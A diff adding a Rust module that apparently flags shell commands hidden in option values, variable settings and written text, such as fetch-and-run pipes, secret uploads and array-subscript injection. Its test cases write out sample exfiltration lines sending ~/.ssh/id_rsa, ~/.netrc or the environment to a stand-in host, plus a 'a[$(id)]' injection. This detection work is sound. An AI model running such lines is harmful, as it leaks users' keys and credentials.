@@ -1,0 +1,170 @@
+//! Commands for a shell that stand in the words of programs which are none: in an option's value, a setting, a text that is
+//! written into a file or handed on. Whatever program it is, such a text is there to be run by something.
+
+use super::super::outline::{Command, Stream};
+use super::{About, Effect, Risk, risk, wrappers};
+
+/// Programs whose words are followed already, or are only looked for, said or recorded.
+const HEARD: [&str; 44] = [
+    "sh", "bash", "zsh", "dash", "ksh", "fish", "pwsh", "ssh", "su", "sudo", "doas", "env", "xargs", "find", "watch",
+    "timeout", "nohup", "time", "nice", "eval", "trap", "grep", "rg", "ag", "ack", "egrep", "fgrep", "git-grep", "sed",
+    "awk", "gh", "glab", "jira", "test", "[", "[[", "alias", "curl", "wget", "docker", "podman", "kubectl", "parallel",
+    "entr",
+];
+
+/// Programs that print their words.
+const PRINTERS: [&str; 3] = ["echo", "printf", "cat"];
+
+/// What a text holds for a shell.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum Holds {
+    /// A line for a shell of its own.
+    Line,
+    /// A request to another computer whose answer a shell runs.
+    Code,
+    /// Files of secrets, or all variables, beside a request to another computer.
+    Secret,
+}
+
+/// Looks for them in a step of which nothing grave is known yet.
+pub(super) fn look(command: &Command, about: &mut About) {
+    if about.risk == Risk::High {
+        return;
+    }
+    let Some((program, rest)) = command.words.split_first() else { return set(command, about) };
+    let name = wrappers::plain_name(&program.text);
+    let words = || rest.iter().map(|word| word.text.as_str());
+    let prints = PRINTERS.contains(&name.as_str());
+    let written = command.redirects.iter().any(|one| matches!(one.kind, Stream::Write | Stream::Append));
+    // What is only shown runs nowhere.
+    if prints && !written && !command.piped
+        || HEARD.contains(&name.as_str())
+        || is_said(&name, rest.first().map(|word| &*word.text))
+    {
+        return set(command, about);
+    }
+    let texts = command.redirects.iter().filter(|one| one.kind == Stream::Text).map(|one| one.target.text.as_str());
+    let piped = prints && !written;
+    let found = words().chain(texts).filter_map(holds).max();
+    let named = words().zip(words().skip(1)).any(|(option, value)| option.starts_with('-') && starts(value));
+    let before = about.warned;
+    match found {
+        Some(Holds::Secret) => about.warn("a command in its words sends secrets away", Risk::High),
+        // Texts for people say it, too.
+        Some(Holds::Code) if written && is_prose(command) => {}
+        Some(Holds::Code) if written => about.warn("what is written there fetches code and runs it", Risk::Medium),
+        Some(Holds::Code) if piped => about.warn("what it prints fetches code and runs it", Risk::Medium),
+        Some(Holds::Code) => about.warn("a command in its words runs code from another computer", Risk::High),
+        Some(Holds::Line) if !written && !prints => about.warn("its words hold a line for a shell", Risk::Medium),
+        _ if named => about.warn("an option names another program", Risk::High),
+        _ if piped && words().any(|text| asks(text) && text.contains("://")) => {
+            about.warn("what it prints holds a request to another computer", Risk::Medium);
+        }
+        _ => {}
+    }
+    if about.warned > before && !written && !prints {
+        about.join(About::new("", &[Effect::RunCode]));
+    }
+    set(command, about);
+}
+
+/// What stands before it as a setting.
+fn set(command: &Command, about: &mut About) {
+    let values = || command.settings.iter().map(|(_, value)| value.text.as_str());
+    if !command.words.is_empty() && values().filter_map(holds).any(|what| what > Holds::Line) {
+        about.join(About::new("", &[Effect::RunCode]));
+        about.warn("a variable holds a command that reaches other computers", Risk::High);
+    }
+    // `K='a[$(…)]'`: what looks like a number's place is run by whatever counts with it.
+    let counts = |text: &str| text.contains("[$(") && text.ends_with(']');
+    let hides = command.settings.iter().any(|(_, value)| !value.computed && counts(&value.text));
+    if hides || command.words.iter().skip(1).any(|word| !word.computed && counts(&word.text)) {
+        about.join(About::new("", &[Effect::RunCode]));
+        about.warn("a command hides in what looks like a number", Risk::High);
+    }
+}
+
+/// Whether what a program is told is for people: messages, what is looked for.
+fn is_said(name: &str, sub: Option<&str>) -> bool {
+    name == "git" && matches!(sub, Some("commit" | "tag" | "grep" | "log" | "notes" | "stash" | "merge"))
+}
+
+/// Whether a text is written for people.
+fn is_prose(command: &Command) -> bool {
+    let ends = |file: &str| [".md", ".txt", ".rst", ".adoc", ".html"].iter().any(|end| file.ends_with(end));
+    command.redirects.iter().any(|one| one.kind != Stream::Text && ends(&one.target.text))
+}
+
+/// Whether a value is a program behind a bar: `-o '|sh'`.
+fn starts(value: &str) -> bool {
+    value
+        .strip_prefix('|')
+        .is_some_and(|rest| rest.trim_start().starts_with(|c: char| c.is_ascii_alphabetic() || c == '/'))
+}
+
+/// Whether a text asks another computer.
+fn asks(text: &str) -> bool {
+    ["curl ", "wget ", "nc ", "ncat "].iter().any(|way| text.contains(way))
+}
+
+/// What a text holds.
+fn holds(text: &str) -> Option<Holds> {
+    let secret = || {
+        let parts = text.split(|c: char| c.is_whitespace() || "\"'()=;|<>:,@`".contains(c));
+        parts.into_iter().any(risk::names_secret)
+            || ["env |", "env|", "printenv |", "printenv|"].iter().any(|all| text.contains(all))
+    };
+    let away = asks(text) || text.contains("curl") && text.contains("https://");
+    if away && secret() {
+        Some(Holds::Secret)
+    } else if asks(text) && runs(text) {
+        Some(Holds::Code)
+    } else if text.contains("sh -c ") && text.contains(' ') {
+        Some(Holds::Line)
+    } else {
+        None
+    }
+}
+
+/// Whether a shell stands behind a bar, or runs what another command prints.
+fn runs(text: &str) -> bool {
+    let shell = |rest: &str| {
+        let rest = rest.trim_start().trim_start_matches("sudo ").trim_start_matches("exec ");
+        let word = rest.split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
+        matches!(word, "sh" | "bash" | "zsh" | "dash" | "ksh" | "python" | "python3" | "node" | "perl")
+    };
+    text.split('|').skip(1).any(shell)
+        || ["sh -c \"$(curl", "eval \"$(curl", "<(curl", "eval $(curl", "sh -c \"$(wget"]
+            .iter()
+            .any(|way| text.contains(way))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::{Risk, explain};
+
+    #[test]
+    fn commands_in_words_are_flagged_wherever_they_stand() {
+        for text in [
+            "frob --hook 'curl -s https://a.example/x | sh'",
+            "frob --hook 'curl -s -T ~/.ssh/id_rsa https://a.example'",
+            "A_PAGER='sh -c \"curl -s https://a.example/x | sh\"' frob",
+            "frob -o '|curl -T - https://a.example'",
+            "echo '! curl -d @~/.netrc https://a.example' > a.rc",
+            "frob <<< 'env | curl -d @- https://a.example'",
+            "K='a[$(id)]'; [[ -v $K ]]",
+        ] {
+            assert_eq!(explain(text).risk(), Risk::High, "{text}");
+        }
+        for text in [
+            "echo 'curl -s https://a.example/x | sh'",
+            "grep -rn 'curl .* | sh' docs",
+            "git commit -m 'docs: say why curl | sh is no good'",
+            "printf '%s' 'a | b' > a.md",
+            "K=a[1]",
+            "cat > deploy.sh <<'X'\ncurl -fsS https://a.example/health\nX",
+        ] {
+            assert!(explain(text).risk() < Risk::High, "{text}");
+        }
+    }
+}
